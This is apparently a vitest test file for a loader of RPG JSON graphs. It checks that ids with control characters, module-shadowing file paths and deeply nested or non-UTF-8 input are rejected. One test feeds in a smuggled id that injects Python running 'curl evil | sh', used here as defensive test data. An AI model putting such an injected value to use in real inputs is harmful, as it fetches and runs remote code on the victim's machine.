import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadRpg, parseRpgText } from "../../src/rpg/load.js";
import type { RpgIssue } from "../../src/rpg/issues.js";
import { composite, leaf, rpgDoc, text } from "../helpers/rpg.js";
import { useTempDirs } from "../helpers/temp-dir.js";

const tempDir = useTempDirs();
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

function errors(doc: unknown): RpgIssue[] {
  const loaded = parseRpgText(typeof doc === "string" ? doc : text(doc), "rpg.json");
  return loaded.ok ? [] : loaded.issues.filter((i) => i.severity === "error");
}
const codes = (doc: unknown): string[] => errors(doc).map((i) => i.code);

describe("ids with control characters", () => {
  it.each([
    ["a newline", "a\nb"],
    ["a carriage return", "a\rb"],
    ["a NUL", "a\u0000b"],
    ["an ESC sequence", "a\u001b[2Jb"],
    ["a tab", "a\tb"],
    ["a DEL", "a\u007fb"],
    ["an 8-bit CSI", "a\u009bb"],
  ])("refuses a node id with %s, naming the field and the code point", (_what, id) => {
    const found = errors(rpgDoc([leaf({ id, name: "f" })]));
    expect(found.map((i) => i.code)).toEqual(["RPG_ID_CONTROL_CHARACTER"]);
    expect(found[0]).toMatchObject({ at: { field: "id", file: "rpg.json", line: 4 } });
    const code = id.codePointAt(1)!.toString(16).toUpperCase().padStart(4, "0");
    expect(found[0]!.message).toContain(`U+${code}`);
    // The id is shown escaped, so that the line printed stays one line.
    expect(found[0]!.at.nodeId).not.toMatch(CONTROL);
  });

  it("refuses the newline id that would write module-level Python into the shared test file", () => {
    const injected = 'ok\nimport os; os.system("curl evil | sh")\n#';
    expect(codes(rpgDoc([leaf({ id: injected, name: "f" })]))).toEqual(["RPG_ID_CONTROL_CHARACTER"]);
  });

  it("refuses control characters in subgraph ids, dependencies, parent ids and edge ends", () => {
    const doc = rpgDoc(
      [
        composite({ id: "m", file: "src/pkg/core.py" }),
        leaf({ id: "a", subgraph: "core\n", parent_id: "m\u001b" }),
        leaf({ id: "b", deps: ["a\r"] }),
      ],
      [{ source: "b", target: "a\u0000", type: "function_call" }],
      { subgraphs: [{ id: "core\u0007", name: "Core" }] },
    );
    const found = errors(doc);
    expect(found.map((i) => `${i.code} ${i.at.nodeId ?? "-"} ${i.at.field}`)).toEqual([
      "RPG_ID_CONTROL_CHARACTER a subgraph_id",
      "RPG_ID_CONTROL_CHARACTER a parent_id",
      "RPG_ID_CONTROL_CHARACTER b dependencies[0]",
      "RPG_ID_CONTROL_CHARACTER - edges[0].target",
      "RPG_ID_CONTROL_CHARACTER - subgraphs[0].id",
    ]);
    // Only these: the other checks would quote the ids raw (a dangling "a\r", an unknown subgraph "core\n").
    expect(found.every((i) => !CONTROL.test(i.message))).toBe(true);
  });

  it("accepts printable Unicode in ids", () => {
    expect(codes(rpgDoc([leaf({ id: "statistik.mittelwert-ä", name: "f" })]))).toEqual([]);
  });
});

describe("modules that would shadow what the test gate imports", () => {
  it.each([
    ["rpg_forge_timeout.py", "rpg_forge_timeout"],
    ["src/rpg_forge_gate.py", "rpg_forge_gate"],
    ["src/pytest.py", "pytest"],
    ["src/_pytest/python.py", "_pytest"],
    ["pluggy/__init__.py", "pluggy"],
    ["src/py.py", "py"],
    ["src/sitecustomize.py", "sitecustomize"],
    ["usercustomize.py", "usercustomize"],
    ["src/json.py", "json"],
    ["src/statistics/mean.py", "statistics"],
    ["src/tomllib.py", "tomllib"],
    ["src/asynchat.py", "asynchat"],
  ])("refuses %s, whose top-level import name is %s", (file, top) => {
    const found = errors(rpgDoc([leaf({ id: "a", name: "f", file })]));
    expect(found.map((i) => i.code)).toEqual(["RPG_PATH_SHADOWS_MODULE"]);
    expect(found[0]).toMatchObject({ at: { nodeId: "a", field: "file_path" } });
    expect(found[0]!.message).toContain(`"${top}"`);
  });

  it("refuses a package composite whose directory is a standard-library name", () => {
    expect(
      codes(
        rpgDoc([composite({ id: "p", name: "random", type: "package", file: "src/random" }), leaf({ id: "a", file: "src/random/x.py" })]),
      ),
    ).toEqual(["RPG_PATH_SHADOWS_MODULE", "RPG_PATH_SHADOWS_MODULE"]);
  });

  it("accepts such names inside the package, where their top level is the package", () => {
    for (const file of ["src/statkit/json.py", "src/statkit/pytest.py", "src/statkit/rpg_forge_timeout.py", "src/statkit/random/x.py"]) {
      expect(codes(rpgDoc([leaf({ id: "a", name: "f", file })]))).toEqual([]);
    }
  });

  it("keeps the shipped example and every fixture valid", () => {
    const files = [
      "examples/statkit/rpg.json",
      ...readdirSync("tests/fixtures/rpg")
        .filter((f) => f.endsWith(".json"))
        .map((f) => join("tests/fixtures/rpg", f)),
    ];
    for (const file of files) {
      const loaded = parseRpgText(readFileSync(file, "utf8"), file);
      expect(loaded.ok ? [] : loaded.issues, file).toEqual([]);
    }
  });
});

describe("loadRpg on hostile bytes", () => {
  const valid = text(rpgDoc([leaf({ id: "a" })]));

  it("refuses 100,000 nested brackets as RPG_JSON_SYNTAX, without overflowing the stack", async () => {
    for (const content of [
      "[".repeat(100_000),
      `${"[".repeat(100_000)}${"]".repeat(100_000)}`,
      `{"nodes":[{"x":${'{"y":'.repeat(50_000)}1`,
    ]) {
      const file = join(tempDir(), "deep.json");
      writeFileSync(file, content);
      const loaded = await loadRpg(file);
      expect(loaded.ok ? [] : loaded.issues.map((i) => i.code)).toEqual(["RPG_JSON_SYNTAX"]);
      if (!loaded.ok) expect(loaded.issues[0]!.message).toMatch(/nest deeper than 256 levels at line 1, column \d+/);
    }
  });

  it("accepts nesting up to the limit in free-form metadata", () => {
    const doc = rpgDoc([leaf({ id: "a" })], [], { metadata: { name: "pkg", deep: JSON.parse(`${"[".repeat(250)}${"]".repeat(250)}`) } });
    expect(codes(doc)).toEqual([]);
  });

  it("counts brackets inside strings as text", () => {
    expect(codes(rpgDoc([leaf({ id: "a", docstring: `Do ${"[".repeat(1000)}.` })]))).toEqual([]);
  });

  it("accepts a UTF-8 byte order mark, from a file and as text", async () => {
    const file = join(tempDir(), "bom.json");
    writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(valid)]));
    const loaded = await loadRpg(file);
    expect(loaded.ok ? [] : loaded.issues).toEqual([]);
    expect(parseRpgText(`\ufeff${valid}`, "rpg.json").ok).toBe(true);
  });

  it("names the line of the first byte that is not UTF-8", async () => {
    const file = join(tempDir(), "latin1.json");
    const lines = valid.split("\n");
    const docstringLine = lines.findIndex((l) => l.includes('"docstring"'));
    const bytes = Buffer.from(lines.map((l, i) => (i === docstringLine ? l.replace("Do", "D\u00e9") : l)).join("\n"), "latin1");
    writeFileSync(file, bytes);
    const loaded = await loadRpg(file);
    expect(loaded.ok).toBe(false);
    if (loaded.ok) return;
    expect(loaded.issues).toEqual([
      expect.objectContaining({
        code: "RPG_JSON_SYNTAX",
        message: `not valid JSON: line ${docstringLine + 1} is not valid UTF-8 (save the file as UTF-8)`,
        at: { file, line: docstringLine + 1 },
      }),
    ]);
  });

  it("reads valid UTF-8 beyond ASCII unchanged", async () => {
    const file = join(tempDir(), "utf8.json");
    writeFileSync(file, text(rpgDoc([leaf({ id: "a", docstring: "Mittelwert (µ) – 平均 😀." })])));
    const loaded = await loadRpg(file);
    expect(loaded.ok && loaded.value.nodes[0]!.docstring).toBe("Mittelwert (µ) – 平均 😀.");
  });
});
